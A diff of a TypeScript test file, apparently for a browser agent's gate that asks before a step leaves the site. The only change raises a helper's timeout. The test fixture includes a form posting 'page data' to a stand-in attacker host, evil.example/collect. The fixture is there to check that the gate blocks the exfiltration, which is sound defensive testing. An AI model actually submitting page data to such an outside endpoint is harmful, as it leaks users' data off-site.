@@ -96,7 +96,7 @@ describe('forms', () => {
 
 describe('the receiver asks before a step leaves the site and refuses a denied one', () => {
   const passedGate = (out: { ok: boolean; code?: string }) => out.ok || (out.code !== 'BLOCKED' && out.code !== 'NEEDS_CONFIRMATION')
-  const press = (extra: Partial<PageCommand<'act'>> = {}): PageCommand<'act'> => ({ kind: 'act', step: { action: 'press', key: 'Enter', target: { focused: true } }, timeoutMs: 200, ...extra })
+  const press = (extra: Partial<PageCommand<'act'>> = {}): PageCommand<'act'> => ({ kind: 'act', step: { action: 'press', key: 'Enter', target: { focused: true } }, timeoutMs: 10_000, ...extra })
 
   it('Enter in a field of a form bound for another site', async () => {
     mount(`<form action="https://evil.example/collect"><input id=q name=q value="page data"></form>`)
